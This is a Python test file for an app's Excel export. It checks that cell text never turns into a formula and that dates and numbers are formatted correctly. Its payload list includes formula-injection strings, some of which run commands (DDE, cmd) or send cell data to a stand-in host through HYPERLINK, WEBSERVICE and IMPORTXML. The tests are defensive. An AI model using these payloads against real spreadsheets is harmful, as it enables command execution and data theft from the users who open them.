"""What a value becomes in a cell; above all, that text never becomes a formula (R-73)."""

from __future__ import annotations

import datetime as dt
import itertools
import unicodedata
from decimal import Decimal
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from innovasjon_desktop.domain.statistics import Share
from innovasjon_desktop.reports.cells import LONGEST, Pen, clean, safe_cell
from innovasjon_desktop.reports.style import Format
from tests.reports.reading import column_of, formulas

STARTS = ("=", "+", "-", "@", "\t", "\r", "\t=", "\r\n=", "=@", "+-")
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"klikk")',
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://x.example")',
    'IMPORTXML(CONCAT("http://x.example",A1),"//a")',
    "A1",
    "R[1]C[1]",
    "'Ark'!A1",
    "[1]Ark!A1",
    "{1;2}",
    "_xlfn.FILTERXML(1;2)",
    "1<2",
    "A1&B1",
    "</t></is><f>1+1</f>",
    "]]><f>1</f>",
    "<f>1+1</f>",
    "TRUE",
    " 1 ",
)
PAYLOADS = [start + body for start, body in itertools.product(STARTS, BODIES)]

PEN = Pen(3, 4)


def test_there_are_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 200


def test_no_payload_becomes_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    sheet = column_of(path, list(PAYLOADS))
    assert formulas(path) == []
    for row, payload in enumerate(PAYLOADS, 2):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s", payload
        assert cell.value == clean(payload)
        assert cell.quotePrefix, payload


def test_other_text_is_not_quoted(tmp_path: Path) -> None:
    sheet = column_of(tmp_path / "a.xlsx", ["Åsen skole", "1+1", "–", "a=b"])
    assert [sheet.cell(row, 1).quotePrefix for row in range(2, 6)] == [False] * 4


@given(st.lists(st.text(st.characters(), max_size=60), min_size=1, max_size=40))
@settings(max_examples=60, deadline=None)
def test_text_comes_back_as_it_was_cleaned(texts: list[str]) -> None:
    with TemporaryDirectory() as folder:
        path = Path(folder) / "a.xlsx"
        sheet = column_of(path, [*texts])
        assert formulas(path) == []
        for row, text in enumerate(texts, 2):
            kept = clean(text)
            # What looks like an escape is escaped for Excel; openpyxl does not undo it.
            value = str(sheet.cell(row, 1).value or "").replace("_x005F_", "_")
            assert value == kept.replace("_x005F_", "_")


@given(st.text(st.characters(), max_size=200))
def test_what_is_kept_has_no_control_characters(text: str) -> None:
    kept = clean(text)
    assert not [c for c in kept if unicodedata.category(c) in ("Cc", "Cs") and c not in "\n\t\x85"]
    assert clean(kept) == kept


def test_an_escape_stays_text() -> None:
    assert "_x005F_x0041_" in safe_cell("A1", "_x0041_", PEN)


def test_a_text_is_no_longer_than_excel_takes() -> None:
    assert len(clean("a" * 50_000)) == LONGEST
    assert len(clean("😀" * 20_000).encode("utf-16-le")) <= 2 * LONGEST


def test_space_is_kept(tmp_path: Path) -> None:
    sheet = column_of(tmp_path / "a.xlsx", ["  a ", "to\nlinjer", "a\tb"])
    assert [sheet.cell(row, 1).value for row in (2, 3, 4)] == ["  a ", "to\nlinjer", "a\tb"]


@pytest.mark.parametrize(
    ("value", "form", "read", "number_format"),
    [
        (dt.date(2026, 6, 30), Format.DATE, dt.datetime(2026, 6, 30), "dd.mm.yyyy"),
        (dt.date(2026, 6, 1), Format.MONTH, dt.datetime(2026, 6, 1), "mm.yyyy"),
        (7, Format.WHOLE, 7, "#,##0"),
        (Decimal("2.5"), Format.DECIMAL, 2.5, "0.0"),
        (Decimal("409.03"), Format.HOURS, 409.03, "#,##0.0"),
        (Share(51, 68), Format.SHARE, 0.75, "0 %"),
        (Share(0, 0), Format.SHARE, "–", "0 %"),
        (None, Format.WHOLE, None, "#,##0"),
        (float("nan"), Format.DECIMAL, None, "0.0"),
        (dt.date(1900, 1, 5), Format.DATE, "1900-01-05", "dd.mm.yyyy"),
    ],
)
def test_values_are_real_ones(
    tmp_path: Path, value: object, form: Format, read: object, number_format: str
) -> None:
    cell = column_of(tmp_path / "a.xlsx", [value], form)["A2"]  # type: ignore[list-item]  # one of the kinds of a value each
    assert (cell.value, cell.number_format) == (read, number_format)


@given(st.dates(dt.date(1900, 3, 1), dt.date(2200, 12, 31)))
def test_dates_are_excels_own_numbers(day: dt.date) -> None:
    serial = (day - dt.date(1899, 12, 30)).days
    assert safe_cell("A1", day, PEN) == f'<c r="A1" s="3"><v>{serial}</v></c>'
